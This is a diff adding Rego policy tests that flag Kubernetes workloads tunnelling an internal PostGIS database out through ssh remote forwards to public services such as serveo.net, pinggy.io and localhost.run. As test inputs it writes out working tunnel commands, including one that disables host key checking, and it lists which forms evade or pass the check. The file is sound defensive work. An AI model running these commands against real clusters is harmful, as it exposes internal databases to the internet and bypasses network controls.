@@ -291,3 +291,43 @@ test_remote_managed_cloudflared_elsewhere_or_local_passes if {
 test_remote_managed_cloudflared_in_a_store_pod_is_reported_once if {
 	store_findings({"name": "tunnel", "image": "cloudflare/cloudflared:2024.6.1", "args": ["tunnel", "run", "--token", "x"]}) == {[0, sidecar_image]}
 }
+
+# ssh remote forwards (serveo.net, localhost.run, pinggy.io give the forwarded port a public address).
+ssh(command) := deployment("edge", {"name": "t", "image": "docker.io/library/alpine:3.20", "command": command})
+
+test_ssh_remote_forward_to_a_store if {
+	found(ssh(["ssh", "-R", "80:postgis.kfm-prod:5432", "serveo.net"])) == {[4, command(2)]}
+	found(ssh(["/usr/bin/autossh", "-M", "0", "-NR", "0.0.0.0:80:postgis.kfm-prod.svc.cluster.local:5432", "tunnel@a.pinggy.io"])) == {[4, command(4)]}
+	found(ssh(["dbclient", "-R80:postgis.kfm-prod:5432", "nokey@localhost.run"])) == {[4, command(1)]}
+	found(ssh(["ssh", "-fNTR5432:postgis.kfm-prod:5432", "x@example.com"])) == {[4, command(1)]}
+	same_ns := deployment("kfm-prod", {"name": "t", "image": "docker.io/library/alpine:3.20", "command": ["ssh", "-R", "80:postgis:5432", "serveo.net"]})
+	found(same_ns) == {[4, command(2)]}
+}
+
+test_ssh_remote_forward_in_a_shell_script if {
+	script := ssh(["sh", "-c", "apk add openssh && ssh -o StrictHostKeyChecking=no -R 80:postgis.kfm-prod:5432 serveo.net"])
+	found(script) == {[4, command(2)]}
+}
+
+test_ssh_dynamic_remote_forward_is_an_open_tunnel if {
+	r := ssh(["ssh", "-N", "-R", "1080", "x@example.com"])
+	found(r) == {[4, command(3)]}
+	some m in messages(r)
+	contains(m, "runs an ssh tunnel (-R 1080) that lets its clients reach any in-cluster address")
+	found(ssh(["ssh", "-R", "localhost:1080", "x@example.com"])) == {[4, command(2)]}
+}
+
+test_ssh_in_a_store_pod_with_a_remote_forward if {
+	store_findings({"name": "t", "image": "docker.io/library/alpine:3.20", "command": ["ssh", "-NR", "80:localhost:5432", "serveo.net"]}) == {[0, sidecar_image]}
+}
+
+test_ssh_without_remote_forward_passes if {
+	# A local forward, a remote forward to the governed API, an ssh client in a store's pod without -R, and a
+	# `chmod -R` after the ssh command of a script are no tunnel to a store.
+	found(ssh(["ssh", "-L", "5432:postgis.kfm-prod:5432", "x@example.com"])) == set()
+	found(ssh(["ssh", "-R", "80:kfm-api.kfm-prod:8080", "serveo.net"])) == set()
+	found(ssh(["sh", "-c", "ssh backup@example.com uptime; chmod -R 755 /data"])) == set()
+	found(ssh(["chmod", "-R", "755", "/data"])) == set()
+	found(ssh(["ssh", "-oRemoteCommand=none", "x@example.com"])) == set()
+	store_findings({"name": "t", "image": "docker.io/library/alpine:3.20", "command": ["ssh", "backup@example.com", "uptime"]}) == set()
+}
